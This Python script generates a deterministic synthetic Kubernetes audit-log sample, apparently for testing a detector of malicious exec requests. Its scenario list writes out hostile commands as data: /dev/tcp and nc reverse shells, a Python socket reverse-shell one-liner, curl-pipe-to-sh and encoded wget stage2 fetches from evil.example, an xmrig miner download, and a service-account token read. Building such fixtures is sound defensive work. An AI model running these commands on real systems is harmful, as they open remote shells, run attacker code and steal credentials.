"""Write ``examples/audit-sample.jsonl``, the small audit log the README's first command scans.

Run from the repository root: ``python -m examples.make_sample`` (``--check`` only compares).
The output is deterministic: a fixed seed and start time drive :mod:`devtools.traffic.synthetic`.

What is in it: about 260 everyday events; exec requests from every client (kubectl, the
JavaScript and Python clients, the Rancher shell, a hand-crafted request), benign (shells, ls,
cat, env, df, health checks against localhost and kubernetes.default.svc) and malicious (reverse
shells over /dev/tcp, nc -e, a Python socket one-liner, curl | sh, wget of a payload, a kubelet
proxy exec, a forbidden token read); each exec with its stages, spread over every input shape
(raw lines, an EventList, an array, ECS documents nested/flattened/mixed, fluent-bit and filebeat
wrappers); and two malformed lines (not JSON, JSON of an unknown shape) for the dead-letter path.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final, Literal

from devtools.traffic.synthetic import (
    EcsLayout,
    as_ecs,
    as_event_list,
    as_wrapped,
    exec_audit_events,
    routine_audit_event,
)

SAMPLE: Final = Path(__file__).with_name("audit-sample.jsonl")
SEED: Final = 20250115
START: Final = datetime(2025, 1, 15, 10, 0, 0, tzinfo=UTC)
ROUTINE_EVENTS: Final = 260
RANCHER_SHELL: Final = (
    "/bin/sh",
    "-c",
    "TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x /usr/bin/script ] && "
    '/usr/bin/script -q -c "/bin/bash" /dev/null || exec /bin/bash) || exec /bin/sh',
)
PY_REVERSE_SHELL: Final = (
    "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    's.connect(("203.0.113.7",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
    'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
)
MALFORMED: Final = (
    "GET /api/v1/namespaces/default/pods HTTP/1.1 200 -- this line is not JSON",
    json.dumps({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 500}),
)

Shape = Callable[[list[dict[str, Any]]], list[object]]


def _raw(events: list[dict[str, Any]]) -> list[object]:
    return list(events)


def _ecs(layout: EcsLayout) -> Shape:
    return lambda events: [as_ecs(e, layout=layout) for e in events]


def _wrapped(key: Literal["log", "message"]) -> Shape:
    return lambda events: [as_wrapped(e, key) for e in events]


SHAPES: Final[dict[str, Shape]] = {
    "raw": _raw,
    "event_list": lambda events: [as_event_list(events)],
    "array": lambda events: [events],
    "ecs": _ecs("nested"),
    "ecs_flattened": _ecs("flattened"),
    "ecs_mixed": _ecs("mixed"),
    "wrapped_log": _wrapped("log"),
    "wrapped_message": _wrapped("message"),
    "wrapped_event_list": lambda events: [as_wrapped(as_event_list(events), "message")],
}


@dataclass(frozen=True)
class Scenario:
    """One exec request of the sample, the shape it travels in, and the minute it happens."""

    minute: float
    shape: str
    command: Sequence[str]
    options: dict[str, Any] = field(default_factory=dict)


SCENARIOS: Final = (
    # benign
    Scenario(1.0, "raw", ("sh",), {"stdin": True, "tty": True, "stderr": False}),
    Scenario(2.5, "raw", ("ls", "-la", "/app"), {"client": "kubectl"}),
    Scenario(3.0, "event_list", ("cat", "/etc/os-release"), {"client": "javascript"}),
    Scenario(
        3.5, "ecs", RANCHER_SHELL, {"client": "rancher", "stdin": True, "tty": True, "pod": "api-0"}
    ),
    Scenario(4.0, "wrapped_log", ("env",), {"client": "python", "namespace": "payments"}),
    Scenario(4.5, "ecs_flattened", ("df", "-h"), {"client": "kubectl"}),
    Scenario(5.0, "raw", ("curl", "-s", "http://localhost:8080/healthz"), {"client": "python"}),
    Scenario(
        5.5,
        "wrapped_message",
        ("sh", "-c", "curl -sf https://kubernetes.default.svc/healthz"),
        {"client": "kubectl"},
    ),
    Scenario(6.0, "raw", (), {"subresource": "attach", "stdin": True, "tty": True}),
    # malicious
    Scenario(6.5, "raw", ("bash", "-c", "bash -i >& /dev/tcp/198.51.100.5/4444 0>&1"), {}),
    Scenario(7.0, "raw", ("nc", "-e", "/bin/sh", "198.51.100.9", "9001"), {"client": "javascript"}),
    Scenario(7.5, "ecs_mixed", ("python3", "-c", PY_REVERSE_SHELL), {"client": "python"}),
    Scenario(
        8.0,
        "array",
        ("sh", "-c", "curl https://evil.example/x.sh | sh"),
        {"client": "rancher", "stdin": True, "tty": True},
    ),
    Scenario(
        8.5,
        "wrapped_event_list",
        ("wget", "https://downloads.example.net/xmrig", "-O", "/tmp/xmrig"),
        {"client": "kubectl", "namespace": "web", "pod": "shop-web-0"},
    ),
    Scenario(
        9.0,
        "raw",
        (),
        {
            "client": "raw",
            "raw_query": "command=sh&command=-c&command=wget+-qO-+https%3A%2F%2Fevil.example"
            "%2Fstage2+%7C+sh&container=web&stdout=true&stderr=true",
        },
    ),
    Scenario(
        9.5,
        "raw",
        ("sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        {"subresource": "proxy", "node": "worker-2", "client": "kubectl"},
    ),
    Scenario(
        10.0,
        "raw",
        ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        {"client": "javascript", "decision": "forbid", "namespace": "kube-system", "pod": "etcd-0"},
    ),
)


def _exec_lines(rng: random.Random) -> list[tuple[str, object]]:
    lines: list[tuple[str, object]] = []
    for scenario in SCENARIOS:
        at = START + timedelta(minutes=scenario.minute, seconds=rng.uniform(0, 20))
        events = exec_audit_events(command=scenario.command, rng=rng, start=at, **scenario.options)
        messages = SHAPES[scenario.shape](events)
        if len(messages) == len(events):  # one message per stage, logged when the stage is
            keys = [str(e["stageTimestamp"]) for e in events]
        else:  # a batch is shipped when its last event is logged
            keys = [max(str(e["stageTimestamp"]) for e in events)]
        lines += zip(keys, messages, strict=True)
    return lines


def sample_lines() -> list[str]:
    """Every line of the sample, in order, without newlines."""
    rng = random.Random(SEED)
    lines: list[tuple[str, object]] = []
    at = START
    for _ in range(ROUTINE_EVENTS):
        at += timedelta(seconds=rng.uniform(0.2, 4.3))
        event = routine_audit_event(rng, at)
        lines.append((str(event["stageTimestamp"]), event))
    lines += _exec_lines(rng)
    lines.sort(key=lambda pair: pair[0])
    out = [json.dumps(m, separators=(",", ":"), ensure_ascii=False) for _, m in lines]
    out.insert(len(out) // 3, MALFORMED[0])
    out.insert(2 * len(out) // 3, MALFORMED[1])
    return out


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--check", action="store_true", help="fail if the file is out of date")
    args = parser.parse_args(argv)
    text = "\n".join(sample_lines()) + "\n"
    if args.check:
        current = SAMPLE.read_text(encoding="utf-8") if SAMPLE.exists() else ""
        if current != text:
            print(f"{SAMPLE} is out of date: run python -m examples.make_sample", file=sys.stderr)
            return 1
        return 0
    SAMPLE.write_text(text, encoding="utf-8")
    print(f"wrote {text.count(chr(10))} lines to {SAMPLE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
